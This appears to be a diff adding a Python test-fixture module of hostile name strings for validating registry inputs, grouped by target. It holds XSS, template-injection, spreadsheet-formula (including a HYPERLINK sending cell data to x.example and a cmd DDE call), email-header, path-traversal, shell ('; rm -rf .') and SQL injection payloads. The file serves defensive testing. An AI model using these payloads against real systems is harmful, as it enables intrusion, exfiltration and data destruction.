@@ -1,0 +1,222 @@
+"""Names that somebody might type to break something, by what they are meant to break; made up here, family by family.
+
+Escapes stand for every character that an editor would hide. `REFUSED` are the families that no registry file may hold.
+"""
+
+TAGS = ["script", "img src=x onerror=alert(1)", "svg onload=alert(1)", "iframe srcdoc='<p>x'", "base href=//x.example"]
+MARKUP = [
+    *(f"<{tag}>" for tag in TAGS),
+    *(f"Host <{tag}> B.V." for tag in TAGS),
+    *(f'"><{tag}>' for tag in TAGS),
+    *(f"'/><{tag}>" for tag in TAGS),
+    *(f"</{end}><b>after" for end in ("td", "table", "title", "style", "script", "bdi", "body", "html", "h1", "p")),
+    "<!-- open",
+    "close -->",
+    "--!><b>",
+    "<![CDATA[ x ]]>",
+    "<?php echo 1 ?>",
+    "<!doctype x>",
+    "&lt;b&gt; &amp; &#60;i&#62; &#x3c;u&#x3e;",
+    "&nosuch; &#0; &#x110000;",
+    "R&D & Söhne",
+    '" onmouseover="alert(1)',
+    "' style='display:none",
+    "` onfocus=alert(1) autofocus=`",
+    "} body { display: none } .x {",
+    "@import url(//x.example/a.css)",
+    "expression(alert(1))",
+    "javascript:alert(1)",
+    "data:text/html,<b>x",
+    "<a href=javascript:alert(1)>click</a>",
+    "<<<<<<<<>>>>>>>>",
+    "<",
+    ">",
+]
+TEMPLATES = [
+    "{{ 7 * 7 }}",
+    "{{7*'7'}}",
+    "{% for x in y %}",
+    "{% endtrans %}",
+    "{% include 'brand.yaml' %}",
+    "{% raw %}{{ x }}{% endraw %}",
+    "{# swallowed #}",
+    "{#",
+    "{{",
+    "}}",
+    "{%",
+    "%}",
+    "{{ data }}",
+    "{{ l.__class__.__mro__ }}",
+    "{{ ''.__class__.__base__.__subclasses__() }}",
+    "{{ self._TemplateReference__context }}",
+    "{{ brand }}{{ programme }}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "%(total)s",
+    "%(nosuch)s",
+    "%s%s%s%n",
+    "100 % fair",
+    "{0}{names}{0.__class__}",
+    "\\u003cb\\u003e",
+    "\\x3cb\\x3e \\074",
+]
+FORMULAS = [
+    *(f"{start}1+1" for start in "=+-@"),
+    *(f"{start}SUM(A1:A9)" for start in "=+-@"),
+    *(f" {start}SUM(A1:A9)" for start in "=+-@"),
+    *(f"{start}cmd|' /C x'!A0" for start in "=+-@"),
+    *(f"{start}SUM(A1)" for start in "\uff1d\uff0b\uff0d\uff20"),
+    '=HYPERLINK("https://x.example/?"&A1,"pay here")',
+    '=IMPORTXML("https://x.example","//a")',
+    '"=1+1"',
+    "';=1+1",
+    ";=1+1",
+    ",=1+1",
+    "\u200b=1+1",
+    "\u00a0=1+1",
+    'DDE("x";"y";"z")',
+]
+HEADERS = [
+    "Evil, evil@x.example",
+    "Evil, evil@x.example <u@y.example>",
+    'Evil" <evil@x.example>, "Anna',
+    "evil@x.example",
+    "<evil@x.example>",
+    "Anna <evil@x.example>",
+    "undisclosed-recipients:;",
+    "group: a@x.example, b@x.example;",
+    "Bcc: evil@x.example",
+    "Anna (evil@x.example)",
+    "(((((((((",
+    "\\",
+    '\\"',
+    '"',
+    '""""',
+    "Anna\\",
+    "=?utf-8?q?=0D=0ABcc:_evil=40x.example?=",
+    "=?utf-8?b?DQpCY2M6IGV2aWxAeC5leGFtcGxl?=",
+    "=?utf-8?q?half",
+    "=?nosuch?x?y?=",
+    "%0d%0aBcc:%20evil@x.example",
+    "a@b@c@d",
+    "--=_boundary--",
+    ".",
+    "..",
+    "From Anna",
+    "RCPT TO:<evil@x.example>",
+    "comma, semicolon; colon: at@ dot. [bracket]",
+]
+PLACES = [
+    "../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "/dev/null",
+    "CON",
+    "NUL.txt",
+    "file:///etc/passwd",
+    "\\\\x.example\\share",
+    "a/b/c.html",
+    "~root",
+    "$HOME `id` $(id)",
+    "; rm -rf .",
+    "| cat",
+    "&& true",
+    "' OR '1'='1",
+    "'; DROP TABLE partner; --",
+    '" OR ""="',
+    "1; SELECT 1",
+    "/* comment",
+    "-- comment",
+    "%",
+    "_",
+    "NULL",
+    "None",
+    "null",
+    "true",
+    "NaN",
+    "Infinity",
+    "-0",
+    "1e309",
+    "0x1F",
+    "\uff11\uff12\uff13",
+    "2015-07-27",
+    "undefined",
+    "[object Object]",
+    "__proto__",
+    "constructor",
+]
+LOOKALIKES = [
+    "N\u043e\u043erdzee",  # Cyrillic o
+    "\u0410\u0441m\u0435",  # Cyrillic A, s, e
+    "\uff21\uff43\uff4d\uff45",  # full-width
+    "\U0001d400\U0001d41c\U0001d426\U0001d41e",  # mathematical bold
+    "A\u0301cme",  # decomposed
+    "\u00c1cme",
+    "\u212bngstrom",  # the sign, not the letter
+    "\ufb01ne \ufb03",  # ligatures
+    "\u1e9e\u00df\u017f",
+    "\u0130stanbul \u0131",
+    "I\u0345\u03b9",
+]
+SCRIPTS = [
+    "\u0634\u0631\u0643\u0629 \u0627\u0644\u0627\u0633\u062a\u0636\u0627\u0641\u0629",
+    "\u05d7\u05d1\u05e8\u05d4 \u05d1\u05e2\u05f4\u05de",
+    "ACME \u0634\u0631\u0643\u0629 (1) <b>",
+    "\u0646\u0645\u200c\u0634",
+    "\u682a\u5f0f\u4f1a\u793e\u30b5\u30f3\u30d7\u30eb",
+    "\ud55c\uad6d \ud638\uc2a4\ud305",
+    "\u0e01\u0e33\u0e25\u0e31\u0e07",
+    "\u0938\u094d\u0924\u094d\u0930\u0940",
+    "\U0001f600\U0001f4a9",
+    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
+    "\U0001f1f3\U0001f1f1",
+    "\u2764\ufe0f\U0001f3fd",
+    "\ue000 private \uf8ff",
+    "\U0010ffff \ufffe \uffff",
+    "\ufdfd\ufdfa",
+    "a" + "\u0301" * 60,
+    "Z" + "\u0300\u0316\u0334\u20dd" * 30,
+    "\u0489" * 80,
+]
+INVISIBLE = [
+    *(f"Ac{hidden}me" for hidden in "\u00ad\u180e\u200b\u200d\u2060\u2061\u2064\u206a\u206f\ufff9\ufffa\ufffb"),
+    "\u200b",
+    "\u2060\u200b\u00ad",
+    *(f"Ac{tag}me" for tag in "\U000e0001\U000e0041\U000e007f"),
+    "Ac\u200b<\u200bscript\u200b>me",
+]
+LONG = [
+    "W" * 200,
+    "\u682a" * 200,
+    "<b>" * 66,
+    "&" * 200,
+    '"' * 200,
+    "\\" * 200,
+    "\u0301" * 200,
+    "\U0001f600" * 200,
+    "a " * 100,
+]
+SOUND = [*MARKUP, *TEMPLATES, *FORMULAS, *HEADERS, *PLACES, *LOOKALIKES, *SCRIPTS, *INVISIBLE, *LONG]
+
+CONTROLS = [f"Ac{chr(code)}me" for code in (*range(0x20), *range(0x7F, 0xA0))]
+BREAKS = [
+    *(f"Anna{end}Bcc: evil@x.example" for end in ("\r\n", "\n", "\r", "\n\n", "\r\n\r\n", "\r\n\t", "\v", "\f")),
+    *(f"Anna{end}Bcc: evil@x.example" for end in ("\x85", "\u2028", "\u2029")),
+    "Anna\r\n.\r\nMAIL FROM:<evil@x.example>",
+    "Anna\r\n\r\n<script>alert(1)</script>",
+    "-- \nnot a signature",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\ufeff=1+1",
+]
+BIDI = [
+    *(f"Ac{turn}me" for turn in "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"),
+    "invoice\u202egpj.exe",
+    "\u2067\u202e\u2066 nested \u2069",
+]
+BLANK = ["", " ", "   "]
+TOO_LONG = ["W" * 201, "W " * 2_000, "<b>" * 70, "\u0301" * 5_000]
+REFUSED = {"controls": CONTROLS, "breaks": BREAKS, "turned": BIDI, "blank": BLANK, "too long": TOO_LONG}
+UNREADABLE = ["\ud800", "Ac\udfffme", "\ude00\ud83d", "W" * 10_000_000]
+ALL = [*SOUND, *(name for names in REFUSED.values() for name in names), *UNREADABLE]
